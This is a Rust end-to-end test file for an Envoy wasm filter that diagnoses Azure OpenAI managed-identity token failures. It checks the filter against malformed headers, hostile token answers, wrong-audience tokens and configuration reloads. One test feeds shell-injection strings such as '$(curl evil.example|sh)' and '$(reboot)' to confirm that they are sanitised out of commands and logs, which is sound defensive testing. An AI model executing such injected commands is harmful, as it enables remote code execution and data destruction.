//! End to end: hostile or odd input never crashes the filter, never touches
//! what is not ours, never leaks — in a real Envoy, against the emulator.
#![cfg(not(target_arch = "wasm32"))]
// Test helpers: a failed step is a failed test.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod support;

use std::time::{Duration, Instant};

use aoai_emulator::RawReply;
use serde_json::Value;
use support::*;

/// The filter's log holds no sign of a panic or a crashed VM.
fn assert_no_crash(envoy: &Envoy) {
    let log = envoy.log();
    for sign in [
        "panicked",
        "critical",
        "Function: proxy_on",
        "wasm vm crashed",
        "VM is in failed state",
    ] {
        assert!(
            !log.to_ascii_lowercase()
                .contains(&sign.to_ascii_lowercase()),
            "{sign} in Envoy's log:\n{}",
            envoy.log_tail()
        );
    }
}

async fn raw_answer(envoy: &Envoy, host: &str) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let response = chat(&client(), envoy, host, "hi").send().await.unwrap();
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    (status, headers, response.bytes().await.unwrap().to_vec())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_response_headers_never_crash_a_worker() {
    let emulator = Emulator::start(Settings::default()).unwrap();
    // One worker: every request below runs in the same VM.
    let envoy = Envoy::start("{}", &emulator, 1);
    assert_eq!(send_chat(&envoy).await.0, 200);
    let json = br#"{"error":{"code":"PermissionDenied","message":"The principal `x` lacks the required data action `y`."}}"#;
    let cases: Vec<(&str, RawReply)> = vec![
        (
            "non-UTF-8 content-type",
            RawReply::json(403, "{}").header("content-type", b"application/json\xff"),
        ),
        (
            "non-UTF-8 content-type and encoding on a 401",
            RawReply {
                status: 401,
                headers: vec![
                    ("content-type".into(), b"application/\xc3\x28json".to_vec()),
                    ("content-encoding".into(), b"gz\xffip".to_vec()),
                ],
                body: json.to_vec(),
            },
        ),
        (
            "empty values",
            RawReply {
                status: 403,
                headers: vec![
                    ("content-type".into(), Vec::new()),
                    ("content-encoding".into(), Vec::new()),
                    ("x-empty".into(), Vec::new()),
                ],
                body: b"{}".to_vec(),
            },
        ),
        (
            "a 40 KB header value",
            RawReply::json(401, std::str::from_utf8(json).unwrap())
                .header("x-huge", &vec![b'a'; 40_000])
                .header("x-huge-binary", &vec![0xfe; 8_000]),
        ),
        (
            "duplicated content-type and encoding",
            RawReply::json(401, std::str::from_utf8(json).unwrap())
                .header("content-type", b"text/html")
                .header("content-encoding", b"identity")
                .header("content-encoding", b"gzip"),
        ),
        (
            "a JSON body that is not UTF-8",
            RawReply {
                status: 401,
                headers: vec![("content-type".into(), b"application/json".to_vec())],
                body:
                    b"{\"error\":{\"code\":\"PermissionDenied\",\"message\":\"\xff\xfe `a` `b`\"}}"
                        .to_vec(),
            },
        ),
    ];
    for (name, reply) in cases {
        let status = reply.status;
        emulator.configure(|s| s.upstream_reply = Some(reply));
        let (got, _, _) = raw_answer(&envoy, AOAI_HOST).await;
        assert_eq!(
            got, status,
            "{name}: the upstream's answer reaches the client"
        );
        emulator.configure(|s| s.upstream_reply = None);
        let (next, _, body) = raw_answer(&envoy, AOAI_HOST).await;
        assert_eq!(
            next,
            200,
            "{name}: the next request on the same worker succeeds: {}",
            String::from_utf8_lossy(&body)
        );
    }
    assert_no_crash(&envoy);
    println!("6 hostile upstream answers, each followed by a 200 on the same worker");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_token_endpoint_answers_never_crash_a_worker() {
    let emulator = Emulator::start(Settings::default()).unwrap();
    let odd = |status, headers: Vec<(&str, &[u8])>, body: &[u8]| {
        ImdsReply::Exact(RawReply {
            status,
            headers: headers
                .into_iter()
                .map(|(n, v)| (n.to_owned(), v.to_vec()))
                .collect(),
            body: body.to_vec(),
        })
    };
    emulator.script_imds([
        odd(
            200,
            vec![("content-type", b"\xff\xfe")],
            b"\xff\xfe\xfd not json",
        ),
        odd(
            200,
            vec![("x-huge", &vec![0xc0; 30_000])],
            b"{\"access_token\":\"\xff\",\"expires_in\":\"3600\"}",
        ),
        odd(
            500,
            vec![("content-type", b"application/json")],
            b"{\"error\":\"\xe2\x28\xa1\"}",
        ),
        odd(200, vec![], b""),
        ImdsReply::Token,
    ]);
    // Four backoffs take up to 7.5 s: let the request wait for all of them.
    let envoy = Envoy::start(
        r#"{"token_source":{"timeout_ms":500},"token_wait_timeout_ms":20000}"#,
        &emulator,
        1,
    );
    let started = Instant::now();
    let (status, _, body) = send_chat(&envoy).await;
    println!(
        "four hostile token answers, then a token: {status} after {:?}",
        started.elapsed()
    );
    assert_eq!(status, 200, "retried to success: {body}");
    assert_eq!(emulator.imds_requests().len(), 5);
    let log = envoy.filter_log().join("\n");
    for named in ["not a JSON token object", "status_500", "empty"] {
        assert!(log.contains(named), "{named} in:\n{log}");
    }
    assert_no_crash(&envoy);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unrelated_403s_of_any_size_pass_untouched() {
    let emulator = Emulator::start(Settings::default()).unwrap();
    let envoy = Envoy::start("{}", &emulator, 1);
    assert_eq!(send_chat(&envoy).await.0, 200);
    // A 2 MiB JSON 403, twice Envoy's default buffer limit.
    let padding = "x".repeat(2 << 20);
    let big = format!(r#"{{"error":{{"code":"Forbidden","message":"no","padding":"{padding}"}}}}"#);
    let small = r#"{"error":{"code":"AuthenticationTypeDisabled","message":"Key based authentication is disabled for this resource."}}"#;
    for (host, body) in [
        ("api.example.com", big.as_str()),
        ("api.example.com", small),
        ("other.service.internal:8443", small),
    ] {
        emulator.configure(|s| s.upstream_reply = Some(RawReply::json(403, body)));
        let (status, headers, got) = raw_answer(&envoy, host).await;
        assert_eq!(status, 403, "{host}");
        assert_eq!(got.len(), body.len(), "{host}: every byte arrives");
        assert!(got == body.as_bytes(), "{host}: byte for byte");
        assert_eq!(
            headers["content-length"].to_str().unwrap(),
            body.len().to_string(),
            "{host}: content-length kept"
        );
        assert!(
            !headers.contains_key("x-aoai-msi-diagnosis"),
            "{host}: not ours, not annotated"
        );
    }
    // A 2 MiB 403 to a matched request is flagged, but never held: all of it arrives.
    emulator.configure(|s| s.upstream_reply = Some(RawReply::json(403, &big)));
    let (status, headers, got) = raw_answer(&envoy, AOAI_HOST).await;
    assert_eq!(status, 403);
    assert!(got == big.as_bytes(), "matched: byte for byte");
    assert_eq!(
        headers["content-length"].to_str().unwrap(),
        big.len().to_string()
    );
    assert_eq!(headers["x-aoai-msi-diagnosis"], "UpstreamForbidden");
    println!(
        "unrelated 403s of {} and {} bytes, and a matched 2 MiB 403, passed byte for byte",
        big.len(),
        small.len()
    );
    assert_no_crash(&envoy);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_token_for_another_audience_is_never_sent() {
    let emulator = Emulator::start(Settings::default()).unwrap();
    let wrong = emulator.mint("https://management.azure.com", 3600);
    let answers = [
        // IMDS says the token is for another resource.
        format!(
            r#"{{"access_token":"{}","expires_in":"3600","resource":"https://management.azure.com","token_type":"Bearer"}}"#,
            emulator.mint("https://cognitiveservices.azure.com", 3600)
        ),
        // IMDS says the right resource, but the token's own audience is another.
        format!(
            r#"{{"access_token":"{wrong}","expires_in":"3600","resource":"https://cognitiveservices.azure.com","token_type":"Bearer"}}"#
        ),
    ];
    for body in answers {
        let emulator = Emulator::start(Settings::default()).unwrap();
        emulator.script_imds([ImdsReply::Raw { status: 200, body }]);
        let envoy = Envoy::start("{}", &emulator, 1);
        let (status, headers, body) = send_chat(&envoy).await;
        assert_eq!(status, 502, "{body}");
        assert_eq!(headers["x-aoai-msi-diagnosis"], "TokenAudienceMismatch");
        let error: Value = serde_json::from_str(&body).unwrap();
        assert_eq!(
            error["error"]["requested_audience"],
            "https://cognitiveservices.azure.com"
        );
        assert_eq!(
            error["error"]["token_audience"],
            "https://management.azure.com"
        );
        assert!(
            emulator.upstream_requests().is_empty(),
            "nothing reached Azure OpenAI"
        );
        println!(
            "wrong-audience token refused: {}",
            error["error"]["message"]
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_rejected_token_never_parks_a_request_and_is_replaced_once() {
    let emulator = Emulator::start(Settings::default()).unwrap();
    // A request that had to wait for the replacement would get a 503 after 1 s.
    let envoy = Envoy::start(r#"{"token_wait_timeout_ms": 1000}"#, &emulator, 4);
    let client = client();
    for _ in 0..8 {
        assert_eq!(send_chat(&envoy).await.0, 200);
    }
    // Azure stops accepting the cached token (a signing-key rollover it
    // missed), and the token endpoint is slow to hand out the next one.
    emulator.configure(|s| s.imds_delay_ms = 1_500);
    emulator.rotate_signing_key().unwrap();
    let started = Instant::now();
    let mut statuses = Vec::new();
    let mut slowest = Duration::ZERO;
    while started.elapsed() < Duration::from_secs(4) {
        let mut wave = tokio::task::JoinSet::new();
        for _ in 0..8 {
            let request = chat(&client, &envoy, AOAI_HOST, "during replacement");
            wave.spawn(async move {
                let sent = Instant::now();
                let status = request.send().await.unwrap().status().as_u16();
                (status, sent.elapsed())
            });
        }
        while let Some(done) = wave.join_next().await {
            let (status, took) = done.unwrap();
            statuses.push(status);
            slowest = slowest.max(took);
        }
    }
    let rejected = statuses.iter().filter(|s| **s == 401).count();
    let other: Vec<_> = statuses
        .iter()
        .filter(|s| !matches!(s, 200 | 401))
        .collect();
    let calls = emulator.imds_requests().len();
    let metrics = prometheus(&envoy);
    println!(
        "after the rollover: {} requests, {rejected} got Azure's 401 before the replacement landed, \
         slowest {slowest:?}, token calls {calls}",
        statuses.len()
    );
    assert!(
        other.is_empty(),
        "no request waited or failed otherwise: {other:?}"
    );
    assert_eq!(calls, 2, "exactly one replacement for the whole process");
    assert_eq!(statuses.last(), Some(&200));
    assert_eq!(
        metric(&metrics, "aoai_msi_requests_waiting{target=\"default\"}"),
        0.0
    );
    assert!(
        !metrics.contains("aoai_msi_local_replies_total"),
        "no request was answered by the filter: {metrics}"
    );
    assert_eq!(
        metric(
            &metrics,
            "aoai_msi_token_invalidations_total{target=\"default\"}"
        ),
        1.0
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_same_token_coming_back_stops_invalidation_and_is_said() {
    // IMDS caches tokens; the resource wants another audience, so each token
    // is rejected, and asking again returns the very same token.
    let emulator = Emulator::start(Settings {
        imds_caches_tokens: true,
        accepted_audience: "https://cognitiveservices.azure.us".into(),
        ..Settings::default()
    })
    .unwrap();
    let envoy = Envoy::start("{}", &emulator, 2);
    let mut replacements = Vec::new();
    for _ in 0..12 {
        let (status, _, body) = send_chat(&envoy).await;
        assert_eq!(status, 401);
        let body: Value = serde_json::from_str(&body).unwrap();
        replacements.push(
            body["error"]["token_replacement"]
                .as_str()
                .unwrap()
                .to_owned(),
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let calls = emulator.imds_requests().len();
    println!("12 rejections: token calls {calls}, replacement states {replacements:?}");
    assert_eq!(
        calls, 2,
        "one replacement asked for, none after the same token came back"
    );
    assert_eq!(emulator.tokens_minted(), 1, "IMDS answered from its cache");
    assert!(
        replacements.iter().any(|r| r == "same_token_returned"),
        "{replacements:?}"
    );
    let log = envoy.filter_log().join("\n");
    assert!(log.contains("returned the same token"), "{log}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn text_from_clients_and_upstreams_never_reaches_logs_or_commands_unchecked() {
    let emulator = Emulator::start(Settings {
        role_holders: Default::default(),
        ..Settings::default()
    })
    .unwrap();
    let envoy = Envoy::start("{}", &emulator, 1);
    // A client-chosen host that still matches *.openai.azure.com.
    let hostile_host = "$(id).openai.azure.com";
    let (status, _, body) = raw_answer(&envoy, hostile_host).await;
    assert_eq!(status, 401);
    let error = serde_json::from_slice::<Value>(&body).unwrap()["error"].clone();
    let command = error["fix_command"].as_str().unwrap();
    assert!(command.contains("--name <resource name>"), "{command}");
    assert!(!command.contains("$(id)"), "{command}");
    // An upstream that puts shell into PermissionDenied's backticks.
    emulator.configure(|s| {
        s.upstream_reply = Some(RawReply::json(
            401,
            r#"{"error":{"code":"PermissionDenied","message":"The principal `$(curl evil.example|sh)` lacks the required data action `Microsoft.X/$(reboot)` to perform `POST /x` operation."}}"#,
        ))
    });
    // Past the log limiter's interval for RoleMissing.
    tokio::time::sleep(Duration::from_millis(10_100)).await;
    let (status, _, body) = raw_answer(&envoy, AOAI_HOST).await;
    assert_eq!(status, 401);
    let error = serde_json::from_slice::<Value>(&body).unwrap()["error"].clone();
    let command = error["fix_command"].as_str().unwrap();
    let oid = aoai_emulator::Identity::system().object_id;
    assert!(
        command.contains(&format!("--assignee-object-id {oid}")),
        "the token's own principal, not the upstream's text: {command}"
    );
    assert_eq!(error["data_action"], "the data action of this operation");
    let log = envoy.filter_log().join("\n");
    assert!(log.contains("diagnosis=RoleMissing"), "{log}");
    for hostile in ["$(id)", "$(curl", "$(reboot)", "evil.example"] {
        assert!(
            !log.contains(hostile),
            "{hostile} in the filter's log:\n{log}"
        );
    }
    println!("sanitised command: {command}");
}

/// An Envoy whose listener (and the filter's configuration in it) comes from
/// a file, so a test can reload it. Old listeners go away one second after a
/// reload instead of Envoy's default ten minutes (`--drain-time-s 1`).
struct Reloadable {
    dir: tempfile::TempDir,
    port: u16,
    envoy: Envoy,
}

impl Reloadable {
    fn start(emulator: &Emulator, filter_config: &str, concurrency: u32) -> Reloadable {
        let port = {
            let probe = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
            probe.local_addr().unwrap().port()
        };
        let dir = tempfile::tempdir().unwrap();
        Reloadable::write(&dir, filter_config, port);
        let bootstrap = envoy_yaml("{}", emulator.port(), emulator.port());
        let static_clusters = bootstrap.split_once("  clusters:").unwrap().1;
        let yaml = format!(
            "{}node: {{ id: e2e, cluster: e2e }}\nadmin:\n  address: {{ socket_address: {{ address: 127.0.0.1, port_value: 0 }} }}\n\
             dynamic_resources:\n  lds_config:\n    path_config_source: {{ path: \"{}\" }}\n    resource_api_version: V3\n\
             static_resources:\n  clusters:{static_clusters}",
            stats_tags_yaml(),
            dir.path().join("lds.json").display()
        );
        let envoy = Envoy::start_yaml_with(&yaml, concurrency, &["--drain-time-s", "1"]);
        Reloadable { dir, port, envoy }
    }

    /// Replace the listener with one whose filter has this configuration.
    fn reload(&self, filter_config: &str) {
        Reloadable::write(&self.dir, filter_config, self.port);
    }

    fn write(dir: &tempfile::TempDir, filter_config: &str, port: u16) {
        let next = dir.path().join("lds.next");
        std::fs::write(&next, lds_listener(filter_config, port)).unwrap();
        std::fs::rename(&next, dir.path().join("lds.json")).unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_reload_that_ends_the_fetching_vm_leaves_no_one_waiting_for_its_lease() {
    const CONCURRENCY: u32 = 2;
    // A slow IMDS keeps the first configuration's fetch in flight while that
    // configuration is reloaded away; a long call timeout would make its
    // lease outlive every request's wait if nobody released it.
    let emulator = Emulator::start(Settings {
        imds_delay_ms: 3_000,
        ..Settings::default()
    })
    .unwrap();
    let config = |i: usize| {
        format!(
            r#"{{"token_wait_timeout_ms": {}, "token_source": {{"type": "imds", "timeout_ms": 60000}}}}"#,
            30_000 + i
        )
    };
    let reloadable = Reloadable::start(&emulator, &config(0), CONCURRENCY);
    let envoy = &reloadable.envoy;
    let deadline = Instant::now() + Duration::from_secs(10);
    // The first configuration fetches its token at start-up.
    while emulator.imds_in_flight() == 0 {
        assert!(
            Instant::now() < deadline,
            "the first configuration never fetched"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    reloadable.reload(&config(1));
    // Once its listener has drained, the first configuration's VMs go away
    // and Envoy cancels their token call, unanswered. (A request sent before
    // that could land on the old listener and be cut by its drain.)
    let deadline = Instant::now() + Duration::from_secs(10);
    while emulator.imds_in_flight() != 0 && emulator.imds_arrived() < 2 {
        assert!(
            Instant::now() < deadline,
            "the first call was never cancelled"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    let (status, _, body) = send_chat(envoy).await;
    let (arrived, answered) = (emulator.imds_arrived(), emulator.imds_requests().len());
    println!(
        "after the fetching VM went away: {status}; IMDS calls {arrived}, answered {answered}"
    );
    assert_eq!(status, 200, "{body}");
    // The abandoned call, and the new configuration's own at once: nobody
    // waited for the abandoned call's 62 s lease to lapse (the request would
    // have waited its 30 s and failed).
    assert_eq!(
        (arrived, answered),
        (2, 1),
        "{:?}",
        emulator.imds_requests()
    );
    assert_no_crash(envoy);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn configuration_reloads_under_traffic_leave_queues_and_memory_bounded() {
    const RELOADS: usize = 24;
    const CONCURRENCY: u32 = 2;
    let emulator = std::sync::Arc::new(
        Emulator::start(Settings {
            token_lifetime_s: 4,
            // Calls in flight while their VM's configuration goes away.
            imds_delay_ms: 300,
            ..Settings::default()
        })
        .unwrap(),
    );
    // Each reload is a new plugin configuration (a different wait bound): new root contexts.
    let config = |i: usize| format!(r#"{{"token_wait_timeout_ms": {}}}"#, 5_000 + i);
    let reloadable = Reloadable::start(&emulator, &config(0), CONCURRENCY);
    let (envoy, port) = (&reloadable.envoy, reloadable.port);
    let url = format!("http://127.0.0.1:{port}{CHAT_PATH}");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let traffic = {
        let stop = stop.clone();
        let url = url.clone();
        tokio::spawn(async move {
            let fresh = reqwest::Client::builder()
                .pool_max_idle_per_host(0)
                .timeout(Duration::from_secs(10))
                .build()
                .unwrap();
            let (mut statuses, mut errors) = (Vec::new(), Vec::new());
            let started = std::time::Instant::now();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let sent = started.elapsed();
                let response = fresh
                    .post(&url)
                    .header("host", AOAI_HOST)
                    .header("api-key", "k")
                    .body(r#"{"messages":[{"role":"user","content":"hi"}]}"#)
                    .send()
                    .await;
                let status = response.as_ref().map_or(0, |r| r.status().as_u16());
                if status != 200 {
                    errors.push(format!(
                        "at {sent:?}, after {:?}: {:?}",
                        started.elapsed() - sent,
                        response.map(|r| r.status())
                    ));
                }
                statuses.push(status);
                tokio::time::sleep(Duration::from_millis(40)).await;
            }
            (statuses, errors)
        })
    };
    let memory = |envoy: &Envoy| -> u64 {
        let (_, text) = get(envoy.admin, "/memory").unwrap();
        let v: Value = serde_json::from_str(&text).unwrap();
        v["allocated"].as_str().unwrap().parse().unwrap()
    };
    tokio::time::sleep(Duration::from_secs(2)).await;
    let before = memory(envoy);
    let mut after_half = 0;
    for i in 1..=RELOADS {
        reloadable.reload(&config(i));
        tokio::time::sleep(Duration::from_millis(750)).await;
        if i == RELOADS / 2 {
            after_half = memory(envoy);
        }
    }
    let after_reloads = memory(envoy);
    // Let the last reload settle and old VMs' queues go stale (20 s).
    tokio::time::sleep(Duration::from_millis(
        aoai_msi_filter::store::QUEUE_STALE_MS + 6_000,
    ))
    .await;
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    let (statuses, errors) = traffic.await.unwrap();
    let metrics = prometheus(envoy);
    let settled = memory(envoy);
    let queues = metric(&metrics, "aoai_msi_notification_queues{}");
    let failed = statuses.iter().filter(|s| **s != 200).count();
    println!(
        "{RELOADS} reloads under traffic: {} requests, {failed} failed; live notification queues {queues}; \
         Envoy allocated {:.1} MiB before, {:.1} after {} reloads, {:.1} after {RELOADS}, {:.1} settled; token calls {}",
        statuses.len(),
        before as f64 / 1048576.0,
        after_half as f64 / 1048576.0,
        RELOADS / 2,
        after_reloads as f64 / 1048576.0,
        settled as f64 / 1048576.0,
        emulator.imds_requests().len()
    );
    let notable: Vec<String> = envoy
        .log()
        .lines()
        .filter(|l| !l.contains("[wasm]") && !l.contains("wasm log"))
        .map(str::to_owned)
        .collect();
    assert_eq!(
        failed,
        0,
        "no request failed across reloads: {errors:#?}\nEnvoy's log without the filter's lines:\n{}",
        notable[notable.len().saturating_sub(80)..].join("\n")
    );
    // The live configuration's VMs: one per worker and two on the main thread.
    assert!(
        queues <= f64::from(CONCURRENCY + 2),
        "queues of VMs that went away are no longer notified: {queues}"
    );
    assert_eq!(
        metric(&metrics, "aoai_msi_requests_waiting{target=\"default\"}"),
        0.0
    );
    assert!(
        settled < after_half + (16 << 20),
        "memory stays bounded: {after_half} after half the reloads, {settled} settled"
    );
    assert_no_crash(envoy);
}

/// What Envoy's wasm failure policies do with a VM that crashed, shown with
/// the bench probe reading `content-type` through the SDK's UTF-8-unwrapping
/// getter (the defect this filter had).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_shipped_failure_policy_replaces_a_crashed_vm_and_the_default_does_not() {
    let mut outcomes = Vec::new();
    for policy in ["failure_policy: FAIL_RELOAD", ""] {
        let emulator = Emulator::start(Settings::default()).unwrap();
        let yaml = envoy_yaml_for(
            &probe_wasm(),
            policy,
            "content_type_as_string",
            emulator.port(),
            emulator.port(),
        );
        let envoy = Envoy::start_yaml(&yaml, 1);
        let get = |envoy: &Envoy| {
            let url = envoy.url("/echo");
            async move { client().get(url).send().await.unwrap().status().as_u16() }
        };
        assert_eq!(get(&envoy).await, 200, "{policy}: the probe works");
        emulator.configure(|s| {
            s.upstream_reply =
                Some(RawReply::json(200, "{}").header("content-type", b"application/json\xff"))
        });
        let crashed = get(&envoy).await;
        emulator.configure(|s| s.upstream_reply = None);
        // FAIL_RELOAD waits its backoff (1 s from the last VM load) before reloading.
        tokio::time::sleep(Duration::from_millis(1_500)).await;
        let after = [get(&envoy).await, get(&envoy).await];
        println!("{policy:?}: crashing request {crashed}, then {after:?}");
        outcomes.push((crashed, after));
    }
    assert_eq!(
        outcomes[0],
        (503, [200, 200]),
        "FAIL_RELOAD: a fresh VM serves"
    );
    assert_eq!(
        outcomes[1],
        (503, [503, 503]),
        "the default fails closed for good"
    );
}

#[test]
fn every_shipped_envoy_config_reloads_a_crashed_vm() {
    let mut checked = 0;
    for entry in std::fs::read_dir(repo().join("envoy")).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_some_and(|e| e == "yaml") {
            let text = std::fs::read_to_string(&path).unwrap();
            let plugins = text
                .matches("envoy.extensions.filters.http.wasm.v3.Wasm")
                .count();
            let reloading = text.matches("failure_policy: FAIL_RELOAD").count();
            assert_eq!(
                reloading,
                plugins,
                "{}: every wasm filter sets FAIL_RELOAD",
                path.display()
            );
            checked += plugins;
        }
    }
    assert!(checked >= 3);
}
